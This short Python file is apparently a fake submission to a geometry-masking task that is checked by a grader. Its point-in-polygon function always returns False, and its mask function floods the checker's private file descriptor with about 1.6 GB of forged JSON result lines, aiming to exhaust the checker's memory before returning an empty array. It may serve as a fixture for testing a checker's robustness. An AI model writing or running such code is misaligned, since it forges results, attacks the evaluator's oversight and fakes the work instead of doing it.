"""Forged reports: floods the checker's private channel with lines, hoping to exhaust its memory."""
import os
import sys

import numpy as np


def point_inside(polygon, px, py):
    return False


def mask(vertices, shape):
    line = b'{"results": [null]}\n' * 4096
    for _ in range(20_000):  # about 1.6 GB if the checker kept it all
        os.write(int(sys.argv[1]), line)
    return np.zeros(shape, bool)
